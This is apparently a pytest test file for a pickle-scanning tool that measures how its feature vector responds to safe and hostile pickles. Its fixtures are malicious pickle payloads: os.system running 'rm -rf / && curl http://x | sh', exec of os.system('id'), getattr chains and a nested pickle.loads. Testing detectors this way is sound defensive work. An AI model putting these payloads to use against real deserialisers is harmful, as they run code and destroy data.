"""The feature vector: layout, documentation, and that features react."""

import pickle
import re
from pathlib import Path

import pytest

from safepickle import _native

from .lookups import NOT_PLAIN

DOC = Path(__file__).resolve().parent.parent / "docs" / "features.md"
NAMES = _native.feature_names()


def features(data, **kwargs):
    rep = _native.scan(data, **kwargs)
    assert rep["feature_version"] == _native.FEATURE_VERSION
    return dict(zip(NAMES, rep["features"]))


def sbu(text):
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


OS_SYSTEM = b"cos\nsystem\n(S'rm -rf / && curl http://x | sh'\ntR."
FLOATS = pickle.dumps({"w%d" % i: i * 0.5 for i in range(20)})


def test_layout():
    assert _native.FEATURE_VERSION == 2
    descriptions = _native.feature_descriptions()
    assert len(NAMES) == len(descriptions) == len(set(NAMES))
    assert all(re.fullmatch(r"[a-z][A-Za-z0-9_]*", n) for n in NAMES)
    assert all(d and "\n" not in d for d in descriptions)
    assert len(_native.scan(FLOATS)["features"]) == len(NAMES)


def test_doc_table_matches_the_code():
    rows = re.findall(r"^\| (\d+) \| `([^`]+)` \| (.*) \|$", DOC.read_text(), re.M)
    assert [int(i) for i, _, _ in rows] == list(range(len(NAMES)))
    assert [n for _, n, _ in rows] == NAMES
    assert [d.replace("\\|", "|") for _, _, d in rows] == _native.feature_descriptions()
    assert "Layout version %d" % _native.FEATURE_VERSION in DOC.read_text()


def test_process_call_reacts():
    evil, plain = features(OS_SYSTEM), features(FLOATS)
    assert evil["cap_globals_process"] > 0 and evil["cap_calls_process"] > 0
    assert plain["cap_globals_process"] == 0 and plain["cap_calls_process"] == 0
    assert evil["calls_reduce_log"] > 0 and plain["calls_reduce_log"] == 0
    assert evil["globals_dangerous_log"] > 0 and plain["globals_dangerous_log"] == 0
    assert evil["strings_shell_log"] > 0 and plain["strings_shell_log"] == 0
    assert evil["globals_stdlib_log"] > 0


def test_structure_reacts():
    f = features(FLOATS)
    assert f["op_BINFLOAT"] > 0 and f["op_REDUCE"] == 0
    assert f["proto_first"] == pickle.DEFAULT_PROTOCOL
    assert f["first_stream_stop"] == 1
    assert 0 < f["ratio_memo_ops"] <= 1
    assert f["n_globals_log"] == 0 and f["limit_hit"] == 0


def test_code_strings_and_exec():
    f = features(b"cbuiltins\nexec\n(S'import os; os.system(\"id\")'\ntR.")
    assert f["cap_calls_code_exec"] > 0
    assert f["strings_code_log"] > 0


def test_safe_data_share_and_unknown_modules():
    f = features(b"\x80\x02ccollections\nOrderedDict\n)R.")
    assert f["globals_safe_share"] == 1 and f["globals_unknown_log"] == 0
    f = features(b"\x80\x02cmylib.models\nNet\n)R.")
    assert f["globals_safe_share"] == 0 and f["globals_unknown_log"] > 0


def test_introspection_and_chains():
    data = b"cbuiltins\ngetattr\n(ccollections\nOrderedDict\nS'system'\ntR(S'id'\ntR."
    f = features(data)
    assert f["cap_calls_introspection"] > 0
    assert f["strings_danger_log"] > 0
    assert f["introspection_danger_calls_log"] > 0
    assert f["call_chains_log"] > 0 and f["call_chain_max"] > 0


def _zoned():
    import datetime
    import zoneinfo

    return datetime.datetime(2024, 3, 1, 12, tzinfo=zoneinfo.ZoneInfo("Europe/Paris"))


@pytest.mark.parametrize("protocol", range(6))
def test_a_plain_lookup_reads_like_the_dotted_global_it_names(protocol):
    # getattr(zoneinfo.ZoneInfo, "_unpickle")(...): how a tz-aware datetime
    # pickles. No introspection, no chain, no call on a result.
    f = features(pickle.dumps(_zoned(), protocol=protocol))
    assert f["n_calls_log"] > 0 and f["n_globals_log"] > 0
    for name in ("cap_globals_introspection", "cap_calls_introspection", "globals_dangerous_log",
                 "call_chains_log", "call_chain_max", "anomaly_CALL_ON_RESULT"):
        assert f[name] == 0, name


def test_plain_lookups_among_many_calls():
    import datetime
    import zoneinfo

    # more calls than the scan keeps flags for without allocating
    zones = [zoneinfo.ZoneInfo(z) for z in ("Europe/Paris", "Asia/Tokyo", "UTC")]
    values = [datetime.datetime(2024, 1, 1, i % 24, tzinfo=zones[i % 3]) for i in range(400)]
    f = features(pickle.dumps(values, protocol=4))
    assert f["n_calls_log"] > 6
    for name in ("cap_calls_introspection", "globals_dangerous_log", "call_chains_log",
                 "anomaly_CALL_ON_RESULT"):
        assert f[name] == 0, name


def test_a_lookup_on_a_global_counts_with_the_capabilities_of_its_target():
    # getattr(subprocess.Popen, "wait")(...) calls subprocess.Popen.wait
    f = features(b"cbuiltins\ngetattr\n(csubprocess\nPopen\nS'wait'\ntR(S'x'\ntR.")
    assert f["cap_calls_process"] > 0 and f["cap_calls_introspection"] == 0
    # the same call through a harmless class: nothing to count
    f = features(b"cbuiltins\ngetattr\n(ccollections\nOrderedDict\nS'fromkeys'\ntR(S'x'\ntR.")
    assert f["cap_calls_process"] == 0 and f["globals_dangerous_log"] == 0


@pytest.mark.parametrize("data", NOT_PLAIN)
def test_lookups_that_are_not_plain_stay_introspection(data):
    f = features(data)
    assert f["cap_calls_introspection"] > 0 and f["globals_dangerous_log"] > 0
    assert f["call_chains_log"] > 0 and f["anomaly_CALL_ON_RESULT"] > 0


def test_getattr_used_otherwise_too_stays_a_dangerous_global():
    # one getattr, memoized: a plain lookup and a lookup of "system"
    data = (b"cbuiltins\ngetattr\np0\n(ccollections\nOrderedDict\nS'fromkeys'\ntR(S'a'\ntR"
            b"0g0\n(ccollections\nOrderedDict\nS'system'\ntR(S'id'\ntR.")
    f = features(data)
    assert f["globals_dangerous_log"] > 0 and f["cap_globals_introspection"] > 0


def test_a_resolver_that_imports_is_no_lookup():
    # pkgutil.resolve_name imports the module it names: its plain string
    # argument does not make it an attribute lookup
    data = b"\x80\x04" + sbu("pkgutil") + sbu("resolve_name") + b"\x93" + sbu("os:system") + b"\x85R."
    f = features(data)
    assert f["cap_globals_import"] > 0 and f["cap_calls_import"] > 0
    assert f["globals_dangerous_log"] > 0


def test_nested_and_trailing():
    inner = b"cos\nsystem\n(S'id'\ntR."
    data = (b"\x80\x04" + sbu("pickle") + sbu("loads") + b"\x93C" + bytes([len(inner)])
            + inner + b"\x85R.")
    f = features(data + b"\xff\xff\xff")
    assert f["nested_count_log"] > 0 and f["nested_max_depth"] >= 1
    # The nested pickle's globals count too.
    assert f["cap_globals_process"] > 0 and f["cap_globals_deserialize"] > 0
    assert f["trailing_bytes_log"] > 0


def test_discarded_calls_and_streams():
    f = features(b"cos\nsystem\n(S'id'\ntR0N." + FLOATS)
    assert f["calls_discarded_log"] > 0
    assert f["n_streams_log"] == pytest.approx(__import__("math").log1p(2))


def test_limit_hit_feature():
    f = features(pickle.dumps(list(range(100))), limits={"max_ops": 5})
    assert f["limit_hit"] == 1


def test_anomaly_counts():
    f = features(b"I0x10\n.")
    assert f["anomaly_NONCANONICAL_NUMBER"] > 0
